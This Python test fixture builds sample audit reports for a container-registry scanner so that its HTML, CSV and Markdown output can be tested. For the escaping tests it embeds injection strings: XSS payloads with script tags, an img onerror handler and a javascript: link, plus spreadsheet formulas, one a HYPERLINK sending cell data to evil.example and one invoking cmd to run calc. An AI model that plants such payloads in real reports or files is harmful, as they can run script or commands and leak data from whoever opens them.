"""Reports built in Python for the format tests: every severity, waivers in every state, a source
location, trend and resolved findings, an incomplete scan, and text that is special to HTML, CSV and
Markdown. Plus the demo's real JSON report when `./dev demo` has produced one."""

from __future__ import annotations

import json
from collections.abc import Mapping
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

from registry_guard.catalogue.findings import Undetermined
from registry_guard.catalogue.rule import all_rules

from audit.errors import ScanError
from audit.report import Report, ReportFinding, Waiver, report_from_json

REPO_ROOT = Path(__file__).resolve().parents[2]
DEMO_REPORT = REPO_ROOT / "demo-output" / "registry-guard-scan.json"

RISKY = "repository:projects/demo/locations/us-central1/repositories/models-risky"
HOSTILE_MESSAGE = '<script>alert("x")</script> & | *bold* _under_ `tick` [link](javascript:alert(1)) @ml-team'
HOSTILE_RESOURCE = "repository:projects/demo/locations/us/repositories/<img src=x onerror=alert(1)>|pipe"
# Each starts a spreadsheet formula unless neutralized.
FORMULA_MESSAGE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
FORMULA_RESOURCE = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS_RESOURCE = "-2+3"
PLUS_MESSAGE = "+1 tag moved"

ACTIVE = Waiver("no-broad-admin", "repository:*models-risky", "Migration to group-based admin tracked in "
                "SEC-42 <b>soon</b>", "ml-platform@example.com", "2099-01-31", "active", 1)
EXPIRED = Waiver("immutable-tags", RISKY, "Legacy pipeline re-tags latest", "ml-research@example.com",
                 "2020-01-01", "expired", 0)
UNUSED = Waiver("legacy-gcr", "registry:gcr.io/*", "GCR shut down already", "infra@example.com", "2099-06-30",
                "unused", 0)


def finding(rule_id: str, resource: str, message: str, **extra: Any) -> ReportFinding:
    rule = all_rules()[rule_id]
    return ReportFinding(
        rule_id=rule_id, title=rule.title, severity=rule.severity, resource=resource, message=message,
        remediation=rule.remediation, frameworks=tuple(str(f) for f in rule.frameworks),
        evidence=extra.pop("evidence", {"member": "allUsers"}), **extra,
    )


INVENTORY: Mapping[str, Any] = {
    "repositories": [
        {"name": "projects/demo/locations/us-central1/repositories/models-risky",
         "settings": {"format": "DOCKER", "immutable_tags": False, "cleanup_policies": [
             {"id": "delete-old", "action": "DELETE", "condition": {"tag_state": "ANY", "tag_prefixes": [],
                                                                   "older_than_seconds": 2592000.0},
              "most_recent_versions": None}], "kms_key_name": None, "labels": {"owner": "ml-research"}},
         "images": [{"package": "llm", "digest": f"sha256:{i:064x}", "tags": [f"v0.{i}.0"],
                     "size_bytes": 800_000_000 + i, "uploaded": "2026-11-01T00:00:00+00:00"} for i in range(12)]},
        {"name": "127.0.0.1:5000", "settings": None,
         "images": [{"package": "models/<vision>", "digest": "sha256:" + "ab" * 32, "tags": ["dev"],
                     "size_bytes": None, "uploaded": None}]},
    ],
    "buckets": [{"name": "artifacts.demo.appspot.com", "uniform_access": False,
                 "public_access_prevention": "inherited", "container_registry": True}],
    "legacy_registries": ["gcr.io/demo"],
    "iam_grants": 7,
    "images": 13,
    "tags": 13,
}

GENERATED_AT = datetime(2026, 11, 25, 3, 0, 0, tzinfo=UTC)
TARGET = {"artifact_registry": {"project": "demo", "location": "us-central1", "repositories": "all"},
          "gcr_buckets": ["artifacts.demo.appspot.com"]}


def sample_findings() -> tuple[ReportFinding, ...]:
    return (
        finding("no-public-access", RISKY, "allUsers holds roles/artifactregistry.reader on models-risky",
                trend="still-open", evidence={"role": "roles/artifactregistry.reader", "member": "allUsers"}),
        finding("no-public-access", "bucket:artifacts.demo.appspot.com", HOSTILE_MESSAGE, trend="new"),
        finding("no-broad-admin", RISKY, "user:alice@example.com holds roles/artifactregistry.repoAdmin",
                waiver=ACTIVE, trend="still-open",
                evidence={"role": "roles/artifactregistry.repoAdmin", "member": "user:alice@example.com"}),
        finding("immutable-tags", RISKY, "immutable tags are off (the waiver for this expired)", trend="still-open",
                evidence={"setting": "immutable_tags"}),
        finding("iam-drift", RISKY, "serviceAccount:ci@demo.iam.gserviceaccount.com is declared but missing live",
                source_location="__main__.py#42", trend="new", evidence={"change": "removed"}),
        finding("version-tag-moved", "image:127.0.0.1:5000/models/sentiment:v1.0.0", PLUS_MESSAGE,
                trend="new", evidence={"tag": "v1.0.0", "digest": "sha256:" + "cd" * 32}),
        finding("vulnerability-scanning", HOSTILE_RESOURCE, "vulnerability scanning is disabled",
                trend="still-open", evidence={"setting": "scanning"}),
        finding("legacy-gcr", FORMULA_RESOURCE, FORMULA_MESSAGE, evidence={}),
        finding("config-drift", MINUS_RESOURCE, "labels differ from the stack\nsecond line",
                source_location="project:///__main__.py#7,3", evidence={"setting": "labels"}),
        finding("required-labels", RISKY, "models-risky lacks label(s) model", trend="still-open",
                evidence={"setting": "labels"}),
    )


def sample_report(**overrides: Any) -> Report:
    findings = sample_findings()
    fields: dict[str, Any] = dict(
        generated_at=GENERATED_AT,
        target=TARGET,
        complete=True,
        errors=(),
        findings=findings,
        undetermined=(Undetermined("cleanup-keeps-versions", RISKY, "cleanup policies were not readable"),),
        inventory=INVENTORY,
        rules_evaluated=tuple(all_rules()),
        timings={"artifact_registry": 0.25, "gcs:artifacts.demo.appspot.com": 0.05, "total": 1.5},
        kind="scan",
        history={"previous_report": "gs://audit/reports/2026-11-24.json", "snapshot": "gs://audit/snap.json"},
        waivers=(ACTIVE, EXPIRED, UNUSED),
        resolved=(finding("bucket-hardening", "bucket:old-reports", "uniform access was off"),),
    )
    fields.update(overrides)
    return Report(**fields)


SCAN_ERRORS = (
    ScanError("artifact-registry", "projects/demo/locations/us-central1", "403 Forbidden: <denied> & logged"),
    ScanError("oci", "https://registry.example/v2/", "timed out after 10 s"),
)


def incomplete_report() -> Report:
    return sample_report(complete=False, errors=SCAN_ERRORS)


def empty_report() -> Report:
    """A clean, complete scan: no findings at all."""
    return sample_report(findings=(), waivers=(), resolved=(), undetermined=())


def demo_report() -> Report | None:
    if not DEMO_REPORT.is_file():
        return None
    return report_from_json(json.loads(DEMO_REPORT.read_text(encoding="utf-8")))
